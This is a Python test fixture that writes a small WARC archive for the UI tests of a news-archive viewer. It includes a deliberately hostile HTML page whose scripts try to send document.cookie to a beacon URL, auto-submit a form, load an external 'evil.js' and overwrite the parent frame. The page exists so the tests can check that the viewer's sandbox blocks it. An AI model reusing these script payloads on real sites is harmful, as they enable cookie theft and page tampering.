"""A small archive with real WARC records for the UI tests (HTTP client and browser).

Written through the project's own WarcWriter and Archive: an ordinary
article (gzip-encoded), a second outlet's article, a hostile page whose
scripts, form and off-site image must never run or load, a PDF, and a
revisit. Two versions of the first article when the archive has no
versions table of its own yet (migration 0002 adds one).
"""

from __future__ import annotations

import gzip
import hashlib
from datetime import datetime, timezone
from pathlib import Path

from support import start_test_crawl

from archiver.article import Article
from archiver.store import Archive, article_id
from archiver.warc import HttpExchange, WarcWriter

ARTICLE_URL = "https://demo.example/politics/border-stays-open"
SECOND_URL = "https://other.example/sport/marathon"
HOSTILE_URL = "https://demo.example/hostile/page"
PDF_URL = "https://demo.example/files/report.pdf"
ARTICLE_TEXT = (
    "Alexander Lukashenko said on Monday that the western border would stay open.\n\n"
    "Traders in Brest welcomed the news, saying queues had doubled since spring."
)
ARTICLE_TEXT_V1 = (
    "Alexander Lukashenko said on Sunday that the border would stay open.\n\n"
    "Traders in Brest welcomed the news."
)
AUTHORS = ["Ana Ivanova", "Piotr Nowak"]
PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
REQUEST = b"GET / HTTP/1.1\r\nHost: demo.example\r\n\r\n"


def hostile_html(beacon: str) -> bytes:
    """A page that tries everything a sandbox must stop; every attempt would reach ``beacon``."""
    return f"""<!DOCTYPE html><html><head><title>Hostile page</title>
<meta http-equiv="refresh" content="0; url={beacon}/refresh">
<link rel="stylesheet" href="{beacon}/style.css">
</head><body>
<h1 id="hostile-heading">Hostile archived page</h1>
<p>Static text that should be visible.</p>
<img id="offsite" src="{beacon}/image.png" alt="off-site image">
<form id="f" action="{beacon}/form" method="post"><input name="stolen" value="x"></form>
<script>
  try {{ parent.document.body.innerHTML = "PWNED-BY-ARCHIVE"; }} catch (e) {{}}
  try {{ top.document.title = "PWNED"; }} catch (e) {{}}
  try {{ new Image().src = "{beacon}/cookie?c=" + encodeURIComponent(document.cookie); }} catch (e) {{}}
  try {{ fetch("{beacon}/fetch"); }} catch (e) {{}}
  try {{ document.getElementById("f").submit(); }} catch (e) {{}}
  document.body.setAttribute("data-script-ran", "yes");
  document.getElementById("hostile-heading").textContent = "SCRIPT RAN";
</script>
<script src="{beacon}/evil.js"></script>
</body></html>""".encode()


def _response(body: bytes, content_type: str, *, gzip_it: bool = False) -> bytes:
    headers = [f"Content-Type: {content_type}"]
    if gzip_it:
        body = gzip.compress(body, mtime=0)
        headers.append("Content-Encoding: gzip")
    headers.append(f"Content-Length: {len(body)}")
    headers.append("Set-Cookie: session=archived-cookie")
    return ("HTTP/1.1 200 OK\r\n" + "\r\n".join(headers) + "\r\n\r\n").encode() + body


def article_html(title: str, text: str) -> bytes:
    paras = "".join(f"<p>{p}</p>" for p in text.split("\n\n"))
    return f"<html><head><title>{title}</title></head><body><h1>{title}</h1>{paras}</body></html>".encode()


def build(out: Path, *, beacon: str = "http://127.0.0.2:9") -> dict:
    """Write the archive into ``out``; return ids and record slugs the tests use."""
    out.mkdir(parents=True, exist_ok=True)
    when = datetime(2026, 11, 20, 9, 0, 0, tzinfo=timezone.utc)
    ids: dict = {}
    with (
        WarcWriter(out / "warcs", "ui", warcinfo={"crawl-id": "c1", "outlet": "demo"}) as warcs,
        Archive(out) as archive,
    ):
        start_test_crawl(archive, started_at="2026-11-20T09:00:00Z")

        def capture(url: str, body: bytes, ctype: str, minutes: int, outlet: str = "demo", **kw):
            cap = warcs.write(
                HttpExchange(
                    url=url,
                    request_bytes=REQUEST,
                    response_bytes=_response(body, ctype, **kw),
                    fetched_at=when.replace(minute=minutes),
                )
            )
            cap.crawl_id, cap.outlet = "c1", outlet
            archive.add_capture(cap)
            return cap

        title = "Border stays open, says Lukashenko"
        old = capture(
            ARTICLE_URL, article_html(title, ARTICLE_TEXT_V1), "text/html; charset=utf-8", 0, gzip_it=True
        )
        cap = capture(
            ARTICLE_URL, article_html(title, ARTICLE_TEXT), "text/html; charset=utf-8", 5, gzip_it=True
        )
        for text, source in ((ARTICLE_TEXT_V1, old), (ARTICLE_TEXT, cap)):  # an edited article: two versions
            article = Article(
                ARTICLE_URL,
                text=text,
                title=title,
                authors=AUTHORS,
                section="Politics",
                language="en",
                published="2026-11-20T08:00:00+01:00",
                site_name="Demo News",
                description="The western border stays open.",
            )
            archive.add_article(article, source, outlet="demo", crawl_id="c1", conversion_record_id=None)
        second = capture(
            SECOND_URL,
            article_html("Thousands run the Minsk marathon", "Runners finished."),
            "text/html",
            10,
            outlet="other",
        )
        archive.add_article(
            Article(
                SECOND_URL,
                text="Runners crossed the finish line before noon.",
                title="Thousands run the Minsk marathon",
                authors=["Olga K"],
                section="Sport",
                language="be",
                published="2026-10-02T10:00:00Z",
            ),
            second,
            outlet="other",
            crawl_id="c1",
            conversion_record_id=None,
        )
        hostile = capture(HOSTILE_URL, hostile_html(beacon), "text/html; charset=utf-8", 15)
        archive.add_article(
            Article(
                HOSTILE_URL,
                text="Hostile archived page. Static text.",
                title="Hostile page",
                section="Tests",
                language="en",
                published="2026-11-19T12:00:00Z",
            ),
            hostile,
            outlet="demo",
            crawl_id="c1",
            conversion_record_id=None,
        )
        pdf = capture(PDF_URL, PDF_BYTES, "application/pdf", 20)
        revisit = warcs.write_revisit(
            url=ARTICLE_URL,
            request_bytes=REQUEST,
            response_head_bytes=b"HTTP/1.1 304 Not Modified\r\n\r\n",
            fetched_at=when.replace(minute=30),
            refers_to_record_id=cap.record_id,
            refers_to_uri=ARTICLE_URL,
            refers_to_date=cap.fetched_at,
            payload_digest="sha1:X",
            payload_sha256=cap.payload_sha256,
        )
        revisit.crawl_id, revisit.outlet = "c1", "demo"
        archive.add_capture(revisit)
        ids["own_versions_table"] = _add_versions(archive, old, cap, ARTICLE_TEXT_V1, ARTICLE_TEXT)
    ids.update(
        article=article_id(ARTICLE_URL),
        second=article_id(SECOND_URL),
        hostile=article_id(HOSTILE_URL),
        article_capture=cap,
        old_capture=old,
        hostile_capture=hostile,
        pdf_capture=pdf,
        revisit_capture=revisit,
    )
    return ids


def _add_versions(archive: Archive, old, new, old_text: str, new_text: str) -> bool:
    """Two versions of the first article, in a minimal ``article_versions`` table if none exists yet."""
    if "article_versions" in archive.db.table_names():
        return False  # the store keeps versions itself (migration 0002): add_article made both
    rows = [
        {
            "article_id": article_id(ARTICLE_URL),
            "version": n,
            "text": text,
            "fetched_at": cap.fetched_at,
            "capture_record_id": cap.record_id,
            "text_sha256": hashlib.sha256(text.encode()).hexdigest(),
        }
        for n, (cap, text) in enumerate([(old, old_text), (new, new_text)], start=1)
    ]
    archive.db.table("article_versions").insert_all(rows)
    return True
